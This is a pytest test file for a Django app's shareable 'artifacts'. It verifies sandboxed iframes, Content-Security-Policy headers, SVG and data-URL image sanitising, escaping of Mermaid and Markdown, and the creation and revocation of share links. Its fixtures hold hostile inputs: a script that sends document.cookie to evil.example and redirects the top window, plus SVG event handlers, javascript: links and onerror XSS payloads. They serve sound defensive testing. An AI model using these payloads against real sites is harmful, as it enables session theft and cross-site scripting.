"""Rendering safely: the HTML served for each hostile input, the sandboxed frame's headers, SVG and
data-URL images, Mermaid's inert source; sharing and revoking; content over 1 MB in the storage."""

import base64

import pytest
from django.urls import reverse

from artifacts import services
from artifacts.errors import ArtifactRefused
from artifacts.models import Artifact
from artifacts.views import FRAME_CSP
from core.tenancy import tenant
from testutils import factories

from .conftest import make

pytestmark = pytest.mark.django_db

HOSTILE_HTML = """<!doctype html><html><body><h1>Hi</h1>
<script>
  try { parent.document.body.innerHTML = 'owned'; } catch (e) {}
  try { top.location = 'https://evil.example/'; } catch (e) {}
  fetch('https://evil.example/?c=' + document.cookie);
</script></body></html>"""
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


@pytest.fixture
def agent(staff):
    return factories.agent(staff, is_public=True, name="Helper")


def test_html_runs_only_in_a_sandboxed_frame_with_its_own_csp(owner_client, owner, agent):
    artifact = make(owner, agent, name="page", type="HTML", content=HOSTILE_HTML)
    page = owner_client.get(reverse("artifacts:detail", args=[artifact.pk])).content.decode()
    frame_url = reverse("artifacts:frame", args=[artifact.pk])
    assert f'<iframe class="artifact-frame" sandbox="allow-scripts" referrerpolicy="no-referrer" src="{frame_url}"' in page
    assert "allow-same-origin" not in page
    body = page.split('<div class="artifact-body">', 1)[1].split("</div>", 1)[0]
    assert "<script>" not in body and "parent.document" not in body  # never in the page itself
    frame = owner_client.get(frame_url)
    assert frame.status_code == 200 and frame["Content-Type"] == "text/html; charset=utf-8"
    assert frame.content.decode() == HOSTILE_HTML
    csp = frame["Content-Security-Policy"]
    assert csp == FRAME_CSP
    assert csp.startswith("sandbox allow-scripts;") and "allow-same-origin" not in csp
    assert "default-src 'none'" in csp and "script-src 'unsafe-inline'" in csp and "style-src 'unsafe-inline'" in csp
    assert "img-src data:" in csp and "connect-src" not in csp  # fetch() falls back to default-src 'none'
    assert "frame-ancestors 'self'" in csp
    assert frame["X-Frame-Options"] == "SAMEORIGIN"
    assert frame["X-Content-Type-Options"] == "nosniff"
    # The app's own pages keep their policy (frames only from this site, never framed by others).
    assert "frame-ancestors 'none'" in owner_client.get(reverse("artifacts:detail", args=[artifact.pk]))["Content-Security-Policy"]


def test_only_html_artifacts_have_a_frame(owner_client, owner, agent):
    artifact = make(owner, agent)
    assert owner_client.get(reverse("artifacts:frame", args=[artifact.pk])).status_code == 404


def test_svg_is_cleaned_before_it_is_stored_and_served_as_an_image(owner_client, owner, agent):
    hostile = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)">'
               '<script>alert(1)</script><foreignObject><div onclick="x()">html</div></foreignObject>'
               '<a href="javascript:alert(1)"><circle r="4" onmouseover="alert(2)" fill="url(https://evil.example/x)"/></a>'
               '<image href="https://evil.example/track.png"/><use href="#dot"/><circle id="dot" r="1" style="fill:url(https://e/)"/></svg>')
    artifact = make(owner, agent, name="logo", type="IMAGE", content=hostile)
    with tenant(owner.id):
        stored = Artifact.objects.get(pk=artifact.pk).content
    for bad in ("<script", "onload", "onclick", "onmouseover", "foreignObject", "javascript:", "evil.example", "style="):
        assert bad not in stored, bad
    assert '<use href="#dot">' in stored and "<circle" in stored
    response = owner_client.get(reverse("artifacts:image", args=[artifact.pk]))
    assert response["Content-Type"] == "image/svg+xml"
    assert response["Content-Security-Policy"].startswith("sandbox;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.content.decode() == stored
    page = owner_client.get(reverse("artifacts:detail", args=[artifact.pk])).content.decode()
    assert f'<img class="artifact-image" src="{reverse("artifacts:image", args=[artifact.pk])}" alt="logo">' in page


def test_data_url_images_are_decoded_checked_and_stored_as_files(owner_client, owner, agent):
    from storage.models import StorageFile

    data_url = "data:image/png;base64," + base64.b64encode(PNG).decode()
    artifact = make(owner, agent, name="dot", type="IMAGE", content=data_url)
    with tenant(owner.id):
        file = StorageFile.objects.get()
    assert file.usage_context == "ARTIFACT" and file.size == len(PNG) and file.mime_type == "image/png"
    assert artifact.metadata["file_id"] == str(file.pk) and artifact.content == ""
    response = owner_client.get(reverse("artifacts:image", args=[artifact.pk]))
    assert response["Content-Type"] == "image/png" and response.content == PNG
    download = owner_client.get(reverse("artifacts:download", args=[artifact.pk]))
    assert 'filename="dot.png"' in download["Content-Disposition"] and download.content == PNG


@pytest.mark.parametrize(("content", "message"), [
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "Only PNG, JPEG, GIF and WebP"),
    ("data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=", "Only PNG, JPEG, GIF and WebP"),
    ("data:image/png;base64,!!!not base64!!!", "not valid base64"),
    ("data:image/png;base64," + base64.b64encode(b"GIF89a pretending").decode(), "not the image it claims to be"),
    ("data:image/png,rawdata", "not a base64 image"),
    ("<div>no svg here</div>", "Only PNG, JPEG, GIF and WebP"),
])
def test_bad_images_are_refused_and_nothing_is_kept(owner, agent, content, message):
    from storage.models import StorageFile

    with pytest.raises(ArtifactRefused) as refused:
        make(owner, agent, name="x", type="IMAGE", content=content)
    assert message in str(refused.value.message)
    with tenant(owner.id):
        assert not Artifact.objects.exists() and not StorageFile.objects.exists()


def test_a_too_large_data_url_is_refused(owner, agent, settings):
    settings.ARTIFACTS_IMAGE_MAX_BYTES = 100
    with pytest.raises(ArtifactRefused, match="too large"):
        make(owner, agent, type="IMAGE", content="data:image/png;base64," + base64.b64encode(PNG + b"\0" * 200).decode())


def test_mermaid_source_is_escaped_and_drawn_only_by_the_strict_client(owner_client, owner, agent):
    source = ('flowchart TD\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A callback "tip"\n'
              '  click B "javascript:alert(1)"\n')
    artifact = make(owner, agent, name="flow", type="DIAGRAM", content=source)
    page = owner_client.get(reverse("artifacts:detail", args=[artifact.pk])).content.decode()
    body = page.split('<div class="artifact-body">', 1)[1].split('<template', 1)[0]
    assert "<img src=x" not in body and "&lt;img src=x onerror=alert(1)&gt;" in body
    assert "data-mermaid" in body
    js = open("static/js/artifacts.js").read()
    assert 'securityLevel: "strict"' in js and "htmlLabels: false" in js
    assert 'image.src = "data:image/svg+xml' in js  # the drawing is an inert image


def test_markdown_goes_through_the_chat_renderer(owner_client, owner, agent):
    artifact = make(owner, agent, name="doc", type="MARKDOWN",
                    content="# Title\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1)) ![i](https://evil.example/t.png)")
    page = owner_client.get(reverse("artifacts:detail", args=[artifact.pk])).content.decode()
    body = page.split('<div class="artifact-body">', 1)[1].split("<template", 1)[0]
    assert "<h1>Title</h1>" in body
    assert "<script>" not in body and 'href="javascript:' not in body and "<img" not in body


def test_code_is_highlighted_and_tables_sortable(owner_client, owner, agent):
    code = make(owner, agent, name="x.py", language="python", content="def f():\n    return '<b>'\n")
    table = make(owner, agent, name="t", type="TABLE", format="csv", content='name,score\n"<b>Ana</b>",3\nBo,10\n')
    code_page = owner_client.get(reverse("artifacts:detail", args=[code.pk])).content.decode()
    assert '<span class="hl-k">def</span>' in code_page and "'&lt;b&gt;'" in code_page
    table_page = owner_client.get(reverse("artifacts:detail", args=[table.pk])).content.decode()
    assert 'data-sortable' in table_page and 'class="table-sort" data-column="1"' in table_page
    assert "<td>&lt;b&gt;Ana&lt;/b&gt;</td>" in table_page


# --- sharing -----------------------------------------------------------------------------------------


def _share(client, artifact) -> str:
    response = client.post(reverse("artifacts:share", args=[artifact.pk]))
    page = client.get(response.url).content.decode()
    marker = "/a/"
    start = page.index(marker, page.index("data-share-link") - 200)
    return page[start:page.index('"', start)]


def test_share_shows_only_that_version_read_only_and_counts_views(owner_client, client, owner, agent):
    with tenant(owner.id):
        conversation = factories.conversation(owner, agent_=agent)
        factories.message(owner, conv=conversation, role="user", content="a private question")
    first = make(owner, agent, conversation, name="plan.md", type="MARKDOWN", content="# The first plan")
    second = services.artifact_revise(user=owner, artifact=first, content="# The second plan")
    url = _share(owner_client, first)
    token = url.strip("/").split("/")[1]
    assert len(token) == 43
    with tenant(owner.id):
        first.refresh_from_db()
    assert first.is_public and first.share_token != token and len(first.share_token) == 64  # only its digest
    response = client.get(url)  # signed out
    html = response.content.decode()
    assert response.status_code == 200
    assert "The first plan" in html and "The second plan" not in html
    assert "a private question" not in html and conversation.title not in html.split("<main", 1)[-1]
    assert "Edit" not in html and "Restore" not in html and "csrfmiddlewaretoken" not in html.split("<main", 1)[-1]
    assert response["X-Robots-Tag"] == "noindex, nofollow" and response["Referrer-Policy"] == "no-referrer"
    assert '<meta name="robots" content="noindex, nofollow">' in html
    assert "no-store" in response["Cache-Control"]
    client.get(url)
    with tenant(owner.id):
        first.refresh_from_db()
        second.refresh_from_db()
    assert first.metadata["views"] == 2 and not second.is_public
    assert client.get(url + "download/").content == b"# The first plan"


def test_revoking_makes_the_link_404_at_once(owner_client, client, owner, agent):
    artifact = make(owner, agent, type="HTML", name="page", content="<p>hello</p>")
    url = _share(owner_client, artifact)
    assert client.get(url).status_code == 200 and client.get(url + "frame/").status_code == 200
    owner_client.post(reverse("artifacts:unshare", args=[artifact.pk]))
    for path in ("", "frame/", "download/", "image/"):
        assert client.get(url + path).status_code == 404
    gone = client.get(url)
    assert "Link not found" in gone.content.decode() and gone["X-Robots-Tag"] == "noindex, nofollow"
    with tenant(owner.id):
        artifact.refresh_from_db()
    assert not artifact.is_public and artifact.share_token is None


@pytest.mark.parametrize("token", ["short", "x" * 42, "x" * 44, "x" * 43, "%00" * 10])
def test_a_token_of_the_wrong_shape_or_unknown_is_a_404(client, token):
    assert client.get(f"/a/{token}/").status_code == 404


def test_sharing_needs_a_post_with_csrf(owner, agent):
    from django.test import Client

    artifact = make(owner, agent)
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(owner)
    assert strict.post(reverse("artifacts:share", args=[artifact.pk])).status_code == 403
    assert strict.get(reverse("artifacts:share", args=[artifact.pk])).status_code == 405


def test_admin_revokes_shares_audited_and_never_shows_content(owner_client, staff_client, staff, owner, agent):
    from accounts.models import AuditLog

    artifact = make(owner, agent, content="TOP SECRET CONTENT\n" * 3)
    _share(owner_client, artifact)
    listing = staff_client.get(reverse("admin:artifacts_artifact_changelist"))
    staff = staff_client
    assert listing.status_code == 200 and "TOP SECRET" not in listing.content.decode()
    change = staff.get(reverse("admin:artifacts_artifact_change", args=[artifact.pk]))
    assert "TOP SECRET" not in change.content.decode()
    staff.post(reverse("admin:artifacts_artifact_changelist"),
               {"action": "revoke_shares", "_selected_action": [str(artifact.pk)]})
    with tenant(owner.id):
        artifact.refresh_from_db()
    assert not artifact.is_public
    assert AuditLog.objects.filter(target_id=artifact.pk, details__action="revoke_shares").exists()


# --- content over 1 MB ---------------------------------------------------------------------------------


def test_content_over_1_mb_round_trips_through_storage_and_goes_with_its_artifact(owner_client, client, owner, agent,
                                                                                 django_capture_on_commit_callbacks):
    from storage.backends import file_storage
    from storage.models import StorageFile

    big = "".join(f"line {i}: {'x' * 60}\n" for i in range(20_000))  # about 1.4 MB
    artifact = make(owner, agent, name="big.txt", content=big)
    with tenant(owner.id):
        file = StorageFile.objects.get()
        row = Artifact.objects.get(pk=artifact.pk)
    assert file.usage_context == "ARTIFACT" and file.size == len(big.encode())
    assert len(row.content) < 5000 and row.metadata["file_id"] == str(file.pk) and row.metadata["preview"]
    assert file_storage().exists(file.storage_path)
    download = owner_client.get(reverse("artifacts:download", args=[artifact.pk]))
    assert download.content.decode() == big
    # Diffing reads the whole text too.
    second = services.artifact_revise(user=owner, artifact=artifact, content=big.replace("line 19999:", "last line:"))
    diff = owner_client.get(reverse("artifacts:diff", args=[second.pk]), {"a": 1, "b": 2}).content.decode()
    assert "Lines added: 1; removed: 1." in diff and "last line:" in diff
    # Sharing too.
    url = _share(owner_client, artifact)
    assert client.get(url + "download/").content.decode() == big
    # Restoring version 1 reuses its stored bytes (same content, same file).
    owner_client.post(reverse("artifacts:restore", args=[artifact.pk]))
    with tenant(owner.id):
        assert StorageFile.objects.count() == 2
    with tenant(owner.id):
        paths = list(StorageFile.objects.values_list("storage_path", flat=True))
    with django_capture_on_commit_callbacks(execute=True):
        owner_client.post(reverse("artifacts:delete", args=[artifact.pk]))
    with tenant(owner.id):
        assert not Artifact.objects.exists() and not StorageFile.objects.exists()
    assert not any(file_storage().exists(p) for p in paths)
